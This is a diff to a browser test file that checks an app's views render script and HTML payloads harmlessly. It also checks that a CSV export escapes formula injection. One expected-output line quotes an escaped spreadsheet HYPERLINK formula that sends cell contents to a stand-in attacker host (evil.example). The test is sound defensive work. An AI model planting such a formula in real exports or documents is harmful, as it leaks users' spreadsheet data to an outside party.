@@ -1,11 +1,10 @@
-import { readFileSync } from 'node:fs';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
-import { gotoView, launch, openPage } from './browser.ts';
+import { connect, downloadBytes, gotoView, openPage, settled } from './browser.ts';
 
 const hostileUrl = inject('fixtureUrl');
 let browser: Browser;
-beforeAll(async () => (browser = await launch()));
+beforeAll(async () => (browser = await connect()));
 afterAll(() => browser?.close());
 
 const VIEWS = ['overview', 'alignment', 'map', 'divergence', 'coverage', 'gaps', 'explorer'];
@@ -15,7 +14,7 @@ describe('a ladder holding HTML and script payloads renders inert', () => {
     it(`${view}: no payload runs, no element or request comes from ladder text`, async () => {
       const { context, page, log } = await openPage(browser);
       await gotoView(page, `${hostileUrl}?view=${view}&company=hostile`);
-      await page.waitForTimeout(150);
+      await settled(page);
       expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
       expect(await page.locator('main script, main img, main b, main a[href^="javascript"]').count()).toBe(0);
       expect(log.requests.filter((u) => /x-(summary|attr|review)\.png/.test(u))).toEqual([]);
@@ -38,7 +37,7 @@ describe('a ladder holding HTML and script payloads renders inert', () => {
     const { context, page } = await openPage(browser);
     await gotoView(page, `${hostileUrl}?view=explorer&company=hostile`);
     const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-export="statements"] .export-bar button:text-is("CSV")')]);
-    const csv = readFileSync(await file.path(), 'utf8');
+    const csv = (await downloadBytes(file)).toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""report"") is how I report progress."`);
     expect(csv).toContain("'@SUM(1+1)");
     for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
